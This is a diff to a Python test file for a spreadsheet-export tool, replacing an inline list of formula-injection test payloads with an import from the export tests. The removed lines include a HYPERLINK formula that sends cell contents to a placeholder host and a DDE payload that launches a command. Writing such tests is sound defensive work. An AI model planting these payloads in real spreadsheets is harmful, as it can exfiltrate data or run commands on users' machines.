@@ -17,17 +17,10 @@ from chainmap.ledger.sheets import read_text
 from chainmap.ledger.workbook import template_workbook
 from chainmap.safe import FORMULA_STARTS
 
-PAYLOADS = [
-    '=HYPERLINK("http://x/?d="&A1,"点此")',
-    "=cmd|' /C calc'!A0",
-    "+1+1",
-    "-2+3",
-    "@SUM(A1:A2)",
-    "＝1+1",
-    "＋1",
-    "－1",
-    "＠x",
-]
+from ..test_exports import PAYLOADS as EXPORT_PAYLOADS
+
+# the export tests' payloads that fit in a cell typed as text, and the full-width spellings
+PAYLOADS = [p for p in EXPORT_PAYLOADS if not p.startswith(("\t", "\r"))] + ["＋1", "－1", "＠x"]
 
 
 def _cli(*args: str) -> None:
